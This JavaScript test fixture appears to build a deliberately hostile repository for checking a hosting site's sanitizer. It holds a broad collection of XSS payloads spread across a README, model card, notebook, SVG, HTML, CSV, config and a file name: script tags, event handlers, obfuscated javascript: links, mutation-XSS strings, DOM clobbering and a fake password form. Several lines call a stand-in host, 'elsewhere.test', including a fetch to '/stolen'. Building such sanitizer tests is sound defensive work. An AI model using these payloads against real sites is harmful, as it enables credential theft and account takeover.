// A repository that wants to run code in its readers' browsers. Whatever runs tells by `pwned`: a mark on the window, a
// dialog, and a request to elsewhere.

const PAYLOAD = "window.pwned=1;alert(1);fetch('https://elsewhere.test/stolen')";

const HTML = [
  `<script>${PAYLOAD}</script>`,
  `<scr<script>ipt>${PAYLOAD}</scr</script>ipt>`,
  `<script src="https://elsewhere.test/x.js"></script>`,
  `<script src="/alice/hostile/resolve/main/evil.js"></script>`,
  `<script type="module">import "/alice/hostile/raw/main/evil.js"</script>`,
  `<img src=x onerror="${PAYLOAD}">`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${PAYLOAD}'/>">`,
  `<svg onload="${PAYLOAD}"><script>${PAYLOAD}</script><animate onbegin="${PAYLOAD}" attributeName=x dur=1s></svg>`,
  `<iframe srcdoc="<script>parent.pwned=1;parent.alert(1)</script>"></iframe>`,
  `<iframe src="javascript:parent.pwned=1"></iframe>`,
  `<object data="data:text/html,<script>${PAYLOAD}</script>"></object><embed src="evil.svg">`,
  `<a href="javascript:${PAYLOAD}">scheme</a>`,
  `<a href="JaVa&#x09;Script&colon;${PAYLOAD}">scheme in pieces</a>`,
  `<a href="data:text/html,<script>${PAYLOAD}</script>">data</a>`,
  `<a href="vbscript:x" onclick="${PAYLOAD}" onmouseover="${PAYLOAD}" onfocus="${PAYLOAD}" autofocus>handlers</a>`,
  `<details ontoggle="${PAYLOAD}" open><summary>toggle</summary>x</details>`,
  `<video src=x onerror="${PAYLOAD}"><source onerror="${PAYLOAD}"></video><audio src=x onerror="${PAYLOAD}"></audio>`,
  `<style>body{background:url(https://elsewhere.test/style)}@import "https://elsewhere.test/i.css";</style>`,
  `<p style="position:fixed;inset:0;z-index:99;background:url(https://elsewhere.test/attribute)">over the page</p>`,
  `<link rel="stylesheet" href="https://elsewhere.test/l.css"><meta http-equiv="refresh" content="0;url=https://elsewhere.test/m">`,
  `<base href="https://elsewhere.test/">`,
  `<form action="https://elsewhere.test/form"><input name=password type=password><button>Sign in</button></form>`,
  `<button formaction="javascript:${PAYLOAD}">button</button>`,
  `<input data-suggest id=q name=q value=x autofocus onfocus="${PAYLOAD}">`,
  `<div id="main" class="top find hide">clobber</div><img name="documentElement"><a id="location" href="x">clobber</a>`,
];

/** What may swallow the text behind it. */
const GREEDY = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${PAYLOAD}&gt;"></table></mtext></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${PAYLOAD}">`,
  `<noscript><p title="</noscript><img src=x onerror='${PAYLOAD}'>"></noscript>`,
  `<template><script>${PAYLOAD}</script></template><plaintext`,
];

/** A line that is to be read behind everything but the greedy. */
export const HARMLESS = "Nothing here has done any harm.";

const MARKDOWN = [
  `[scheme](javascript:${PAYLOAD.replaceAll("(", "%28").replaceAll(")", "%29")})`,
  `[entities](&#106;avascript&#58;alert&#40;1&#41;)`,
  `![picture](javascript:alert%281%29)`,
  `<javascript:alert(1)>`,
  "```<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```",
  `$\\href{javascript:alert(1)}{x} <script>alert(1)</script>$`,
  `[^1]: <img src=x onerror=alert(1)>`,
  `| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |`,
];

const CARD = `---
license: other
license_name: "<script>alert(1)</script>"
license_link: "javascript:alert(1)"
pipeline_tag: fill-mask
tags: ["<img src=x onerror=alert(1)>", "javascript:alert(1)"]
datasets: ["\\"><script>alert(1)</script>"]
widget: [{text: "<script>alert(1)</script>"}]
---
# Hostile

`;

const output = (data) => ({ output_type: "display_data", metadata: {}, data });

const NOTEBOOK = {
  nbformat: 4,
  nbformat_minor: 5,
  metadata: { kernelspec: { language: '"><script>alert(1)</script>' } },
  cells: [
    { cell_type: "markdown", metadata: {}, source: HTML.join("\n\n") },
    { cell_type: '"><script>alert(1)</script>', metadata: {}, source: `<script>${PAYLOAD}</script>` },
    {
      cell_type: "code",
      execution_count: 1,
      metadata: {},
      source: `</code></pre><script>${PAYLOAD}</script>`,
      outputs: [
        ...[...HTML, ...GREEDY].map((html) => output({ "text/html": html })),
        output({ "application/javascript": PAYLOAD }),
        output({ "image/svg+xml": `<svg onload="${PAYLOAD}"/>` }),
        output({ "image/png": `"><script>${PAYLOAD}</script>` }),
        { output_type: "stream", name: "stdout", text: `<script>${PAYLOAD}</script>` },
      ],
    },
  ],
};

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="30" onload="${PAYLOAD}">
<script>${PAYLOAD}</script><script xlink:href="https://elsewhere.test/x.js"/>
<image href="https://elsewhere.test/pixel.png"/><a xlink:href="javascript:alert(1)"><text y="20">click</text></a>
<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${PAYLOAD}"/></body></foreignObject></svg>`;

const escape = (text) => text.replaceAll("&", "&amp;");

/** Files by path. */
export const HOSTILE = {
  "README.md": `${CARD}${[...MARKDOWN, ...HTML, HARMLESS, ...GREEDY].join("\n\n")}\n`,
  "notebook.ipynb": JSON.stringify(NOTEBOOK),
  "evil.svg": escape(SVG),
  "evil.html": `<!doctype html><title>evil</title>${[...HTML, ...GREEDY].join("\n")}`,
  "evil.js": PAYLOAD,
  "evil.xml": `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${PAYLOAD}</script></html>`,
  "table.csv": `<script>${PAYLOAD}</script>,"<img src=x onerror=${PAYLOAD}>"\n=1,"""><script>alert(1)</script>"\n`,
  "code.py": `"""</code></pre><script>${PAYLOAD}</script>"""\n<img src=x onerror=alert(1)>\n`,
  "config.json": JSON.stringify({ model_type: "<script>alert(1)</script>", architectures: ["<img src=x onerror=alert(1)>"] }),
  "<img src=x onerror=alert(1)>.txt": "a name\n",
};
